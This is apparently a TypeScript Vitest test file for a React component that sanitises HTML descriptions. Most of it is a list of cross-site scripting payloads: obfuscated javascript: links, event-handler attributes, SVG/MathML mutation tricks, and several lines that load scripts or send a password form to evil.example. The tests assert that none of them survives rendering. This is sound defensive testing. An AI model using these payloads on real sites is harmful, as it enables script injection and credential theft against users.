import { FluentProvider, webLightTheme } from "@fluentui/react-components";
import { cleanup, render } from "@testing-library/react";
import { afterEach, expect, test, vi } from "vitest";
import { Described } from "./Described";

afterEach(cleanup);

const shown = (text: string, short?: number): HTMLElement =>
  render(
    <FluentProvider theme={webLightTheme}>
      <Described text={text} short={short} />
    </FluentProvider>,
  ).container.querySelector(".fui-FluentProvider") as HTMLElement;

/** Attributes that may stand there; the class is ours. */
const HARMLESS = /^(class|href|rel|target|title|colspan|rowspan)$/;
const ELEMENTS =
  /^(a|abbr|b|blockquote|br|caption|code|dd|del|div|dl|dt|em|hr|i|ins|kbd|li|mark|ol|p|pre|q|s|samp|small|span|strong|sub|sup|table|tbody|td|tfoot|th|thead|tr|u|ul|var)$/;

const attacks: string[] = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<img src=x onerror=alert(1)>",
  "<img src=https://evil.example/pixel.png>",
  "<IMG SRC=JaVaScRiPt:alert(1)>",
  "<img srcset='https://evil.example/x 1x'>",
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
  "<svg><animate onbegin=alert(1) attributeName=x></svg>",
  "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'></svg>",
  "<svg><style><img src=x onerror=alert(1)></style></svg>",
  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
  "<math href='javascript:alert(1)'>x</math>",
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
  "<template><img src=x onerror=alert(1)></template>",
  "<iframe src='javascript:alert(1)'></iframe>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<object data='javascript:alert(1)'></object>",
  "<embed src='javascript:alert(1)'>",
  "<base href='https://evil.example/'>",
  "<link rel=stylesheet href=https://evil.example/x.css>",
  "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
  "<style>@import 'https://evil.example/x.css';</style>",
  "<div style='background:url(https://evil.example/x)'>x</div>",
  "<div style='position:fixed;inset:0'>a page of its own</div>",
  "<p onclick=alert(1) onmouseover=alert(1) tabindex=1 autofocus onfocus=alert(1)>x</p>",
  "<a href='javascript:alert(1)'>x</a>",
  "<a href='JAVASCRIPT:alert(1)'>x</a>",
  "<a href=' javascript:alert(1)'>x</a>",
  "<a href='java\tscript:alert(1)'>x</a>",
  "<a href='java\nscript:alert(1)'>x</a>",
  "<a href='&#106;avascript:alert(1)'>x</a>",
  "<a href='java&Tab;script:alert(1)'>x</a>",
  "<a href='\u0001javascript:alert(1)'>x</a>",
  "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
  "<a href='vbscript:msgbox(1)'>x</a>",
  "<a href='blob:https://evil.example/x'>x</a>",
  "<a href='file:///etc/passwd'>x</a>",
  "<a href='https://evil.example/' ping='https://evil.example/ping' download id=content name=location>x</a>",
  "<form action='https://evil.example/'><input name=password><button>Sign in</button></form>",
  "<button formaction='javascript:alert(1)'>x</button>",
  "<input type=image src=x onerror=alert(1)>",
  "<textarea autofocus onfocus=alert(1)></textarea>",
  "<select onchange=alert(1)><option>x</select>",
  "<video src=x onerror=alert(1)></video><audio src=x onerror=alert(1)>",
  "<video><source onerror=alert(1)></video>",
  "<details open ontoggle=alert(1)>x</details>",
  "<marquee onstart=alert(1)>x</marquee>",
  "<body onload=alert(1)>x",
  "<frameset onload=alert(1)>",
  "<table background='javascript:alert(1)'><tr><td background=x>x</td></tr></table>",
  "<x onclick=alert(1) style=color:red>x</x>",
  "<custom-element is=x onclick=alert(1)>x</custom-element>",
  "<div id=root class=fui-Button contenteditable dangerouslySetInnerHTML='{}'>x</div>",
  "<p ref=x key=y __proto__=z constructor=w>x</p>",
  "<!--><img src=x onerror=alert(1)>-->",
  "<![CDATA[<img src=x onerror=alert(1)>]]>",
  "<?xml version='1.0'?><img src=x onerror=alert(1)>",
  "<a href=`javascript:alert(1)`>x</a>",
  "<a href='https://good.example/\" onclick=\"alert(1)'>x</a>",
  "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
  "<plaintext><img src=x onerror=alert(1)>",
];

test.each(attacks)("nothing runs, loads or pretends: %s", (attack) => {
  const alert = vi.fn();
  vi.stubGlobal("alert", alert);
  const page = shown(attack);
  for (const element of page.querySelectorAll("*")) {
    expect(element.localName).toMatch(ELEMENTS);
    for (const { name } of element.attributes) expect(name).toMatch(HARMLESS);
    expect(element.className).not.toContain("fui-Button");
    const href = element.getAttribute("href");
    if (href !== null) {
      expect(href).toMatch(/^(https?:|mailto:)/);
      expect(element.getAttribute("rel")).toBe("noopener noreferrer");
    }
  }
  expect(alert).not.toHaveBeenCalled();
  vi.unstubAllGlobals();
});

test("what makes a description readable stays", () => {
  const page = shown(
    "<h2>Orders</h2><p>Read <b>all</b> of <a href='https://docs.example/?a=1&amp;b=2'>this</a>:</p>" +
      "<ul><li>one<li>two</ul><table> <tr> <th colspan=2>x</th> </tr> </table>",
  );
  expect([...page.querySelectorAll("li")].map((each) => each.textContent)).toEqual(["one", "two"]);
  expect(page.querySelector("a")?.getAttribute("href")).toBe("https://docs.example/?a=1&b=2");
  expect(page.querySelector("th")?.colSpan).toBe(2);
  expect(page.querySelector("strong")?.textContent).toBe("Orders");
  expect(page.querySelector("h2")).toBeNull();
});

test.each(["1 < 2 and 3 > 2", "a & b", 'Tom\'s "shop"', "{{value}} ${x}"])("a text stays as it is: %s", (text) => {
  expect(shown(text).textContent).toBe(text);
});

test("thousands of elements in each other don't break the page", () => {
  expect(shown(`${"<div>".repeat(400)}deep`).textContent).toBe("deep");
});

test("a short one is text alone, cut at a word", () => {
  const page = shown("<p>Orders <script>alert(1)</script>of the <b>whole</b> world</p>", 14);
  expect(page.textContent).toBe("Orders of the…");
  expect(page.querySelector("b, script")).toBeNull();
});
